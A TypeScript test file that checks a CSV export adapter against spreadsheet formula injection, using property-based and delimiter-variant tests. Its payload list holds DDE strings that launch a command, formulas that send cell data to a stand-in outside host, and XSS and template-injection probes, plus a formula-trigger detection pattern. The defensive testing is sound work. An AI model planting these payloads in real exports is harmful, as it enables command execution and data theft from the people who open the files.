import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvFile } from '../../shared/adapters/csv-file.ts'
import { safeCell, writtenCell } from '../../shared/domain/cell-text.ts'

const commands = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://elsewhere.example.com?x="&A1,"open")',
  'IMPORTXML(CONCAT("http://elsewhere.example.com?v=",A1),"//a")',
  'WEBSERVICE("http://elsewhere.example.com/"&A2)',
  'DDE("cmd";"/C calc";"x")',
  '1+1',
  'SUM(1+9)*cmd|" /C calc"!A0',
  '<script>alert(1)</script>',
]
const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\t',
  '\r',
  '＝',
  '＋',
  '－',
  '＠',
  '﹦',
  '−',
  ' =',
  '\u00a0=',
]
const disguises = ['\u200b=', '\ufeff=', "'=", '"=', "''+", '\u202e=', 'x;=', 'x;"=', 'x\t-', 'x\r\n@']
/** 8 x 27, and a few that are no formula but run elsewhere. */
const payloads = [
  ...[...starts, ...disguises].flatMap((start) => commands.map((command) => start + command)),
  '"><img src=x onerror=alert(1)>',
  "';alert(1)//",
  '${7*7}',
  '{{7*7}}',
  '+44 7700 900123',
  '-5',
]

const trigger = /^[\s\p{Cc}\p{Cf}"]*[=+\-@＝＋－＠﹦﹢﹣﹫−]|^[\t\r\n]/u
const file = (rows: string[][]) =>
  csvFile(
    [
      ['Name', (r: string[]) => r[0]],
      ['Remark', (r) => r[1]],
    ],
    rows,
  )
const cellsOf = (text: string, options = {}): string[][] => parse(text, { bom: true, ...options })

describe('a table for spreadsheets', () => {
  it('begins no cell with what starts a formula, and gives the words back', () => {
    expect(payloads.length).toBeGreaterThan(200)
    const rows = payloads.map((payload, i) => [payload, payloads[payloads.length - 1 - i]!])
    const [, ...read] = cellsOf(file(rows))
    expect(read.flat().filter((cell) => trigger.test(cell))).toEqual([])
    expect(read.map((row) => row.map(writtenCell))).toEqual(rows)
  })

  it.each([';', '\t'])('does so in a program that splits at %j', (delimiter) => {
    const text = file(payloads.map((payload) => ['Ada', payload]))
    const cells = cellsOf(text, { delimiter, relax_quotes: true, relax_column_count: true, quote: false })
    expect(cells.flat().filter((cell) => trigger.test(cell))).toEqual([])
  })

  it('gives any words back', () => {
    const unit = fc.constantFrom(...'=+-@\'";,\t\r\n a1é\u200b＝−')
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.string({ unit, maxLength: 14 }), fc.string())), (rows) => {
        const [, ...read] = cellsOf(file(rows))
        expect(read.flat().filter((cell) => trigger.test(cell))).toEqual([])
        expect(read.map((row) => row.map(writtenCell))).toEqual(rows)
      }),
      { numRuns: 500 },
    )
  })

  it('leaves what is no formula as it is', () => {
    for (const plain of [
      'Ada',
      "O'Brien",
      'Smith-Jones',
      'a - b',
      '3 + 4',
      'name@example.com',
      'two\n\nlines',
      '',
    ])
      expect(safeCell(plain)).toBe(plain)
  })

  it('keeps numbers numbers, says yes and no, and marks itself as UTF-8', () => {
    const text = csvFile(
      [
        ['n', (n: number) => n],
        ['is', (n) => n > 0],
        ['none', () => undefined],
      ],
      [-5, 0, 7.5],
    )
    expect(text).toBe('\ufeffn,is,none\r\n-5,no,\r\n0,no,\r\n7.5,yes,\r\n')
  })
})
